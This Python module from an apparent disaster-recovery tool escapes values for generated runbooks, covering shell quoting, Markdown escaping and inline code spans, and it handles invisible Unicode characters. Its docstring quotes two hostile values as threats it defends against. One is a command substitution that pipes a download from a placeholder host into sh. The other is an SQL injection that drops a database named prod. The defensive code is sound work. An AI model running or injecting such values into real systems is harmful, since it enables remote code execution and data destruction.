"""Quoting for the runbook: every value written into a shell block, an SQL statement or the
Markdown around them goes through one of these functions, never raw.

A runbook is copied and run by hand during a disaster, by someone who has no time to read
it closely. Its values come from the plan and, worse, from the run's manifest, which is
read back from a backup repository that an attacker may have written to. A snapshot id
of ``$(curl evil|sh)`` must reach restic as that one odd argument, a database named
``x" WITH (FORCE); DROP DATABASE prod; --`` must stay one identifier, and a description
holding a fenced block must not add a shell block to the runbook. Hence:

* :func:`sh`: one shell word, whatever the value (``shlex.quote``, or bash's ``$'...'``
  when the value holds control or invisible characters, so that no value ever puts a raw
  newline into a block: a block's lines all start with the generator's own text, and a
  value cannot end a Markdown fence or a heredoc, nor hide behind a bidi override);
* :func:`md` and :func:`code`: Markdown text and inline code on one line, with every
  character that could start Markdown structure (fences, HTML, links, tables) escaped
  and invisible characters shown as ``<U+XXXX>``.

SQL identifiers and database names are quoted by each engine (``drplan.sources``), which
writes its own by-hand commands.
"""

from __future__ import annotations

import re
import shlex

from drplan.errors import OperationError

_ASCII_CONTROL = re.compile(r"[\x00-\x1f\x7f]")
_MD_SPECIAL = re.compile(r"([\\`*_~\[\]<>|#&])")
# A line that would open or close a Markdown fence (CommonMark: up to 3 spaces of indent)
FENCE_LINE = re.compile(r"^ {0,3}(`{3,}|~{3,})", re.M)


def _hidden(ch: str) -> bool:
    """A character that does not show as itself: ASCII and C1 controls, and the
    non-printable rest of Unicode (bidi overrides, zero-width, line separators, no-break
    spaces), which can make a line read otherwise than it runs ("Trojan Source")."""
    return ch != " " and not ch.isprintable()


def sh(value: object) -> str:
    """`value` as exactly one bash word, expanding to exactly `value`.

    Plain values use ``shlex.quote`` (single quotes: nothing inside is special). A value
    holding a character that does not show as itself (a newline, an escape, a bidi
    override...) is written with bash's ANSI-C quoting instead, each such character as
    the ``\\xHH`` of its UTF-8 bytes (whatever the locale), so that the word stays on one
    line and reads as it runs. NUL cannot be in an argument at all: refused."""
    s = str(value)
    if "\x00" in s:
        raise OperationError(f"a value for the runbook holds a NUL byte: {s[:60]!r}")
    if not any(_hidden(ch) for ch in s):
        return shlex.quote(s)
    out = []
    for ch in s:
        if ch in "\\'":
            out.append("\\" + ch)
        elif _hidden(ch):
            out.append("".join(f"\\x{b:02x}" for b in ch.encode("utf-8")))
        else:
            out.append(ch)
    return "$'" + "".join(out) + "'"


def sh_join(argv: list[str]) -> str:
    return " ".join(sh(a) for a in argv)


def _visible(value: object) -> str:
    """The text with ASCII controls (newline, tab...) as spaces and every other character
    that does not show as itself as ``<U+XXXX>``: one line, read as it is."""
    return "".join(
        " " if _ASCII_CONTROL.fullmatch(ch) else f"<U+{ord(ch):04X}>" if _hidden(ch) else ch
        for ch in str(value)
    )


def md(value: object) -> str:
    """`value` as Markdown text on one line: control characters become spaces and the
    characters that could start structure (fences, HTML, links, emphasis, table cells)
    are backslash-escaped, so a value renders as the text it is and adds no block, even
    at the start of a line (no indented code, list, rule or heading either)."""
    s = _MD_SPECIAL.sub(r"\\\1", _visible(value)).lstrip(" ")
    # a list item (`- x`, `+ x`, `1. x`), a rule or a heading underline (`---`, `===`)
    s = re.sub(r"^([-+=])(?=\s|$|\1)", r"\\\1", s)
    return re.sub(r"^(\d{1,9})([.)])(?=\s|$)", r"\1\\\2", s)


def code(value: object, table: bool = False) -> str:
    """`value` as one Markdown inline code span (on one line). Backslashes do not escape
    inside code spans, so the span's fence is one backtick longer than the longest run
    of backticks in the value (CommonMark); `table`: also escape ``|``, which GitHub
    tables split cells on even inside code."""
    s = _visible(value)
    if table:
        s = s.replace("|", "\\|")
    longest = max((len(run) for run in re.findall(r"`+", s)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if not s or s[0] in "` " or s[-1] in "` " else ""
    return f"{fence}{pad}{s}{pad}{fence}"
